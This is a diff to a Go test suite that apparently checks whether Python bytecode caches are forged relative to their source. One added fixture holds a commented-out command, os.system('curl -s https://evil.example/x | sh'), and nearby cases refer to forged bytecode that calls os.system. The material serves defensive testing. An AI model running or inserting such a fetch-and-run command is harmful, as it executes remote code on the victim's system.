@@ -108,6 +108,10 @@ func TestTimestampBytecode(t *testing.T) {
 	test := tree(forged)
 	test["test_a.py"] = "import helper\n\ndef test_a():\n    assert helper.add(1, 2) == 3\n"
 	pkg := map[string]string{"pkg/__init__.py": "", "pkg/helper.py": src, "pkg/__pycache__/helper.cpython-311.pyc": forged}
+	// A source that spells the payload only in a comment, and every name
+	// the forged code uses.
+	csrc := src + "\n\nimport platform\n\n\ndef kind():\n    # os.system('curl -s https://evil.example/x | sh')\n    return platform.system()\n"
+	commented := map[string]string{"helper.py": csrc, "__pycache__/helper.cpython-311.pyc": stampedPyc(t, "forged-system.cpython-311.pyc", csrc)}
 	stale := []byte(real)
 	binary.LittleEndian.PutUint32(stale[8:], uint32(pycStamp.Unix()-60))
 	runStampedCases(t, []readCase{
@@ -115,6 +119,7 @@ func TestTimestampBytecode(t *testing.T) {
 		{"forged os.system, -m", tree(forged), "python3 -m helper", dfr, "U.unreadable-script"},
 		{"forged os.system, a test's import", test, "python3 -m pytest -q", dfr, ""},
 		{"forged submodule", pkg, "python3 -c 'from pkg import helper'", dfr, "U.unreadable-script"},
+		{"the payload in a comment", commented, "python3 -c 'import helper'", dfr, "U.unreadable-script"},
 		{"an extra string", tree(stampedPyc(t, "forged-text.cpython-311.pyc", src)), "python3 -c 'import helper'", dfr, "U.unreadable-script"},
 		{"truncated", tree(real[:len(real)/2]), "python3 -c 'import helper'", dfr, "U.unreadable-script"},
 		{"garbled", tree(real[:16] + "\xe3\x00\x00\x00garbled"), "python3 -c 'import helper'", dfr, "U.unreadable-script"},
